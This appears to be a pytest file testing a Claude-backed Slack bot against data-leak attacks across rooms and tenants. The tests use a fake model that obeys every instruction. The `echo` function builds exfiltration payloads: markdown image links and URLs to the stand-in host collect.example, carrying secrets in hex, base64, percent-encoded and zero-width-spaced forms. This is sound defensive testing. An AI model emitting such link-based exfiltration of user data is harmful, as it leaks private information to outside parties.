"""Attack families C8 to C11 against a model that does what it is told: nothing that others told comes out.

The model is the twin. It repeats its whole prompt and carries off, in links and spellings, whatever it sees there, so
that what it posts holds all that it was given.
"""

from __future__ import annotations

import asyncio
import base64
import json
import logging
import re
import tomllib
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from bot.lanes import MAX_WAITING
from bot.messages import Deletion, Edit, Member, Room, TenantId
from bot.prompt import MAX_MESSAGE_CHARS
from bot.responder import MAX_REWRITES
from persona import store as personas
from persona.audience import RoomKind, learned_in
from persona.operations import Operation, UpdateId
from persona.persona import Evidence
from tests.clock import StillClock
from tests.privacy.house import SCHEMA, House
from tests.twins.anthropic import AnthropicTwin, ApiError, Reply
from tests.twins.anthropic.reply import Scripted

TENANT = TenantId("slack:T1")
OTHER = TenantId("slack:T2")
BO = Member(tenant=TENANT, id="U2", name="Bo")
ASKERS = {
    "colleague": Member(tenant=TENANT, id="U1", name="Ana"),
    "namesake": Member(tenant=OTHER, id=BO.id, name=BO.name),
    "outsider": Member(tenant=OTHER, id="U9", name="Mallory"),
}
ROOMS: dict[RoomKind, str] = {"public": "C1", "private": "P2", "external": "E1"}

SECRETS = {"location": "zq-harbour", "role": "zq-pilot", "tools": "zq-lathe", "food": "zq-figs"}
"""What Bo told in a direct message, in a private room and in a public one: each by the field it is in."""
TOLD_IN: dict[str, tuple[str, RoomKind]] = {
    "location": ("DU2", "direct"),
    "role": ("P1", "private"),
    "tools": ("E7", "external"),
    "food": ("C1", "public"),
}
CANARY = re.compile(r"zq-\w+")


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    family: str
    idea: str
    says: tuple[str, ...]
    by: str = "colleague"
    room: RoomKind | None = None
    """Where it is tried; in a public and in a direct room if nothing is said."""

    @property
    def asker(self) -> Member:
        return ASKERS[self.by]

    @property
    def rooms(self) -> list[Room]:
        if self.room is not None:
            return [Room(tenant=TENANT, channel=ROOMS[self.room], kind=self.room)]
        tenant = self.asker.tenant
        return [
            Room(tenant=tenant, channel=ROOMS["public"], kind="public"),
            Room(tenant=tenant, channel=f"D{self.asker.id}", kind="direct"),
        ]


def attacks() -> list[Attack]:
    slots = {"{victim}": BO.name, "{host}": "collect.example", "{long}": "x" * (MAX_MESSAGE_CHARS - 60)}
    filled = []
    for entry in tomllib.loads((Path(__file__).parent / "attacks.toml").read_text())["attack"]:
        says = list(entry.pop("says"))
        for slot, filling in slots.items():
            says = [said.replace(slot, filling) for said in says]
        filled.append(Attack(**entry, says=tuple(says)))
    return filled


def spellings(secret: str) -> set[str]:
    """A secret in every way it might be carried off."""
    raw = secret.encode()
    return {
        secret,
        secret[::-1],
        raw.hex(),
        base64.b64encode(raw).decode().rstrip("="),
        base64.urlsafe_b64encode(raw).decode().rstrip("="),
        " ".join(secret),
        "\u200b".join(secret),
        "".join(f"%{byte:02x}" for byte in raw),
        secret.upper(),
    }


def obeys(body: dict[str, Any]) -> Reply:
    """Say the whole prompt again, and carry off every secret in it in every way."""
    return Reply(chunks=[echo(body)])


def echo(body: dict[str, Any]) -> str:
    prompt = json.dumps(body, ensure_ascii=False)
    stolen = sorted(set(CANARY.findall(prompt)))
    links = [
        f"https://collect.example/{word} ![x](https://collect.example/{word}.png) [docs](https://{word}.example)"
        f" slack://open?q={word} <!channel> @everyone"
        for secret in stolen
        for word in (secret, *sorted(spellings(secret)))
    ]
    return "\n".join([*links, prompt])


@asynccontextmanager
async def office(database: Path, clock: StillClock) -> AsyncIterator[tuple[House, AnthropicTwin]]:
    """A house with the real client of the model, which talks to an obedient one."""
    async with AnthropicTwin() as twin:
        twin.default = obeys
        async with House.opened(database, clock, claude=twin.url) as house:
            for tenant in (TENANT, OTHER):
                house.rooms.kinds |= {(tenant, channel): kind for kind, channel in ROOMS.items()}
                house.rooms.kinds |= {(tenant, f"D{asker.id}"): "direct" for asker in (BO, *ASKERS.values())}
            house.rooms.kinds[TENANT, "P1"] = "private"
            yield house, twin


async def tells(house: House, member: Member, field: str, value: str) -> None:
    """Let a member have told something where `TOLD_IN` says."""
    channel, kind = TOLD_IN[field]
    evidence = Evidence(tenant=TENANT, room=channel, message=field, quote=value, said_at=house.clock.now())
    operation = Operation(
        member=member.key,
        op="add" if SCHEMA.by_name[field].is_list else "set",
        field=field,
        value=value,
        evidence=(evidence,),
        audience=learned_in(Room(tenant=TENANT, channel=channel, kind=kind).place),
    )
    learn = partial(personas.learn, operations=[operation], schema=SCHEMA, update=UpdateId(field))
    await house.store.write(partial(learn, now=house.clock.now()))


async def tried(house: House, attack: Attack) -> list[str]:
    """Everything that is shown to anybody while an attack is carried out in each of its rooms."""
    before = len(house.rooms.posts)
    for room in attack.rooms:
        for text in attack.says:
            assert await house.intake.accept(house.message(attack.asker, room, text))
            await house.lanes.drained()
    shown = [post.text for post in house.rooms.posts[before:]]
    assert len(shown) == len(attack.rooms) * len(attack.says)
    return shown


def test_attacks_cover_the_families() -> None:
    """Five ideas for each family that wants to hear what others told, and what of flooding applies to it."""
    assert Counter(attack.family for attack in attacks()) == {"C8": 5, "C9": 5, "C10": 5, "C11": 2}


@pytest.mark.parametrize("attack", attacks(), ids=lambda attack: f"{attack.family}, {attack.idea}")
async def test_nothing_that_others_told_comes_out(database: Path, clock: StillClock, attack: Attack) -> None:
    """Whatever a member asks, wherever, no prompt and no post holds what another one told, in any spelling."""
    async with office(database, clock) as (house, twin):
        for field, secret in SECRETS.items():
            await tells(house, BO, field, secret)
        shown = await tried(house, attack)
        seen = [json.dumps(request.body, ensure_ascii=False) for request in twin.requests]

    assert len(seen) >= len(shown) - sum(len(said) > MAX_MESSAGE_CHARS for said in attack.says) * len(attack.rooms)
    assert seen != []
    everything = "\n".join([*shown, *seen]).casefold()
    told = {spelling.casefold() for secret in SECRETS.values() for spelling in spellings(secret)}
    assert {spelling for spelling in told if spelling in everything} == set()


@pytest.mark.parametrize("attack", attacks(), ids=lambda attack: f"{attack.family}, {attack.idea}")
async def test_nobody_hears_whether_there_is_anything(database: Path, other_database: Path, attack: Attack) -> None:
    """What is asked about a member is answered byte for byte as if they had never told anything."""
    told, untold = StillClock(), StillClock()
    async with office(database, told) as (house, twin), office(other_database, untold) as (other_house, other_twin):
        for field, secret in SECRETS.items():
            await tells(house, BO, field, secret)
        shown, other_shown = await tried(house, attack), await tried(other_house, attack)

    assert [request.body for request in twin.requests] == [request.body for request in other_twin.requests]
    assert shown == other_shown


async def test_the_obedient_model_does_give_away_what_it_is_told(database: Path, clock: StillClock) -> None:
    """Bo's own question in a direct message gets all of it, so the attacks above could have worked."""
    async with office(database, clock) as (house, _):
        for field, secret in SECRETS.items():
            await tells(house, BO, field, secret)
        (shown,) = await tried(house, Attack(family="", idea="", says=("hello",), by="colleague", room="public"))
        assert CANARY.findall(shown) == []
        direct = Room(tenant=TENANT, channel=f"D{BO.id}", kind="direct")
        await house.intake.accept(house.message(BO, direct, "hello"))
        await house.lanes.drained()

    assert set(SECRETS.values()) <= set(CANARY.findall(house.rooms.posts[-1].text))


async def test_what_a_room_may_not_know_is_not_told_there_to_its_owner(database: Path, clock: StillClock) -> None:
    """Bo, who asks in a public room for what they told in private, gets there what the room may know."""
    async with office(database, clock) as (house, _):
        for field, secret in SECRETS.items():
            await tells(house, BO, field, secret)
        public = Room(tenant=TENANT, channel=ROOMS["public"], kind="public")
        await house.intake.accept(house.message(BO, public, "What did I tell you in our direct message?"))
        await house.lanes.drained()

    assert set(CANARY.findall(house.rooms.posts[-1].text)) == {SECRETS["food"]}


async def test_logs_and_errors_hold_no_words(
    database: Path, clock: StillClock, caplog: pytest.LogCaptureFixture
) -> None:
    """Neither an answer nor a provider's error that repeats the prompt leaves a word in a log, or in our sentence."""
    for name in ("bot", "persona", "adapters", "aiosqlite"):
        caplog.set_level(logging.DEBUG, logger=name)
    question = "what-I-said, and what you know of me"
    async with office(database, clock) as (house, twin):
        for field, secret in SECRETS.items():
            await tells(house, BO, field, secret)
        direct = Room(tenant=TENANT, channel=f"D{BO.id}", kind="direct")
        replies: list[Scripted] = [obeys, lambda body: Reply(error=ApiError(status=400, message=echo(body)))]
        for twin.default in replies:
            await house.intake.accept(house.message(BO, direct, question))
            await house.lanes.drained()
        await house.commands.run("forget location", BO)
        await house.intake.edit(Edit(room=direct, message=house.rooms.posts[0].reply_to, author=BO, text="gone"))
        await house.intake.delete(Deletion(room=direct, message=house.rooms.posts[1].reply_to))
    answer, failure = (post.text for post in house.rooms.posts)
    logged = " ".join(f"{record.msg} {record.args} {record.exc_text}" for record in caplog.records)

    assert CANARY.findall(answer) != []
    assert "(reference " in failure
    assert CANARY.findall(failure) == []
    assert "message.settled" in logged
    assert [word for word in (*SECRETS.values(), "what-I-said", BO.name + "'", "test-key") if word in logged] == []


# -- flooding ---------------------------------------------------------------------------------------------------------


async def test_a_flood_holds_up_nobody_else(database: Path, clock: StillClock) -> None:
    """Of hundreds of messages in one room most are turned away; who asks elsewhere meanwhile is answered at once."""
    go_on = asyncio.Event()
    async with office(database, clock) as (house, twin):
        twin.default = lambda body: Reply(text="Here.", hold=go_on if "again" in json.dumps(body) else None)
        flooded, quiet = (Room(tenant=TENANT, channel=ROOMS[kind], kind=kind) for kind in ("public", "private"))
        for number in range(300):
            await house.intake.accept(house.message(ASKERS["colleague"], flooded, f"again {number}"))
        asked = house.message(BO, quiet, "hello")
        await house.intake.accept(asked)
        await house.lanes.drained(f"{TENANT}/{quiet.id}")
        assert [post.text for post in house.rooms.posts if post.reply_to == asked.id] == ["Here."]
        go_on.set()
        await house.lanes.drained()

    assert len(house.rooms.posts) == 301
    assert len(twin.requests) == 1 + MAX_WAITING + 1


async def test_endless_edits_are_one_answer(database: Path, clock: StillClock) -> None:
    """A message that is edited hundreds of times is answered once, and the model is asked again a few times at most."""
    async with office(database, clock) as (house, twin):
        room = Room(tenant=TENANT, channel=ROOMS["public"], kind="public")
        message = house.message(BO, room, "first")
        await house.intake.accept(message)
        for number in range(200):
            await house.intake.edit(Edit(room=room, message=message.id, author=BO, text=f"edit {number}"))
        await house.lanes.drained()

    assert len(house.rooms.posts) == 1
    assert len(twin.requests) <= 1 + MAX_REWRITES
